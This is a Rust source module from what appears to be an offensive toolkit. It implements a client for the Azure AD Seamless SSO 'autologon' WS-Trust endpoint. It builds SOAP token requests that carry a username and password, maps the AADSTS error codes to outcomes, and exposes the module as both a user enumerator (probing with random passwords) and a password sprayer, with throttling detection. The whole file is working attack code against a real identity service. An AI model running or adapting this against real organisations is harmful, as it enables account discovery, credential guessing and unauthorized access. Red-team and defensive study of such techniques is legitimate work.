//! Seamless-SSO "autologon" WS-Trust endpoint
//!
//! The endpoint answers a username/password security token request with
//! either a `DesktopSsoToken` or a SOAP fault carrying an `AADSTS` code.
//! It is usable for both enumeration and spraying.

use super::{aadsts, snippet, transport_error};
use crate::proxy::Transport;
use crate::traits::{Enumerator, Sprayer};
use crate::types::{Credential, Identity, RawOutcome};
use async_trait::async_trait;
use chrono::{Duration as ChronoDuration, SecondsFormat, Utc};
use reqwest::Method;
use uuid::Uuid;

const AUTOLOGON_HOST: &str = "https://autologon.microsoftazuread-sso.com";

pub struct Autologon {
    domain: String,
}

impl Autologon {
    pub fn new(domain: &str) -> Self {
        Self {
            domain: domain.to_string(),
        }
    }

    fn endpoint(&self, request_id: Uuid) -> String {
        format!(
            "{}/{}/winauth/trust/2005/usernamemixed?client-request-id={}",
            AUTOLOGON_HOST, self.domain, request_id
        )
    }

    async fn authenticate(&self, username: &str, password: &str, transport: &Transport) -> RawOutcome {
        let request_id = Uuid::new_v4();
        let upstream = self.endpoint(request_id);
        let builder = match transport.request(Method::POST, &upstream) {
            Ok(builder) => builder,
            Err(e) => return transport_error(e),
        };

        let body = security_token_request(&upstream, username, password);
        let response = match builder
            .header(reqwest::header::CONTENT_TYPE, "application/soap+xml; charset=utf-8")
            .body(body)
            .send()
            .await
        {
            Ok(response) => response,
            Err(e) => return transport_error(e),
        };

        let status = response.status().as_u16();
        match response.text().await {
            Ok(text) => interpret_response(status, &text),
            Err(e) => transport_error(e),
        }
    }
}

fn xml_escape(value: &str) -> String {
    value
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&apos;")
}

/// Build the WS-Trust issue request body
pub fn security_token_request(endpoint: &str, username: &str, password: &str) -> String {
    let created = Utc::now();
    let expires = created + ChronoDuration::minutes(10);
    let created = created.to_rfc3339_opts(SecondsFormat::Millis, true);
    let expires = expires.to_rfc3339_opts(SecondsFormat::Millis, true);
    let message_id = Uuid::new_v4();
    let token_id = Uuid::new_v4();

    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd" xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion" xmlns:wsp="http://schemas.xmlsoap.org/ws/2004/09/policy" xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd" xmlns:wsa="http://www.w3.org/2005/08/addressing" xmlns:wssc="http://schemas.xmlsoap.org/ws/2005/02/sc" xmlns:wst="http://schemas.xmlsoap.org/ws/2005/02/trust">
  <s:Header>
    <wsa:Action s:mustUnderstand="1">http://schemas.xmlsoap.org/ws/2005/02/trust/RST/Issue</wsa:Action>
    <wsa:To s:mustUnderstand="1">{endpoint}</wsa:To>
    <wsa:MessageID>urn:uuid:{message_id}</wsa:MessageID>
    <wsse:Security s:mustUnderstand="1">
      <wsu:Timestamp wsu:Id="_0">
        <wsu:Created>{created}</wsu:Created>
        <wsu:Expires>{expires}</wsu:Expires>
      </wsu:Timestamp>
      <wsse:UsernameToken wsu:Id="uuid-{token_id}">
        <wsse:Username>{username}</wsse:Username>
        <wsse:Password>{password}</wsse:Password>
      </wsse:UsernameToken>
    </wsse:Security>
  </s:Header>
  <s:Body>
    <wst:RequestSecurityToken Id="RST0">
      <wst:RequestType>http://schemas.xmlsoap.org/ws/2005/02/trust/Issue</wst:RequestType>
      <wsp:AppliesTo>
        <wsa:EndpointReference>
          <wsa:Address>urn:federation:MicrosoftOnline</wsa:Address>
        </wsa:EndpointReference>
      </wsp:AppliesTo>
      <wst:KeyType>http://schemas.xmlsoap.org/ws/2005/05/identity/NoProofKey</wst:KeyType>
    </wst:RequestSecurityToken>
  </s:Body>
</s:Envelope>"#,
        endpoint = xml_escape(endpoint),
        message_id = message_id,
        created = created,
        expires = expires,
        token_id = token_id,
        username = xml_escape(username),
        password = xml_escape(password),
    )
}

/// Map an autologon response to a raw outcome
pub fn interpret_response(status: u16, body: &str) -> RawOutcome {
    if status == 200 && body.contains("DesktopSsoToken") {
        return RawOutcome::Success(None);
    }
    if status == 429 {
        return RawOutcome::Throttled;
    }
    aadsts::interpret_text(body)
        .unwrap_or_else(|| RawOutcome::Unrecognized(format!("HTTP {}: {}", status, snippet(body))))
}

#[async_trait]
impl Enumerator for Autologon {
    fn name(&self) -> &'static str {
        "autologon"
    }

    async fn probe(&self, identity: &Identity, transport: &Transport) -> RawOutcome {
        let password = format!("Pw!{}", Uuid::new_v4().simple());
        self.authenticate(identity.as_str(), &password, transport).await
    }
}

#[async_trait]
impl Sprayer for Autologon {
    fn name(&self) -> &'static str {
        "autologon"
    }

    async fn probe(&self, credential: &Credential, transport: &Transport) -> RawOutcome {
        self.authenticate(credential.identity.as_str(), &credential.password, transport)
            .await
    }
}
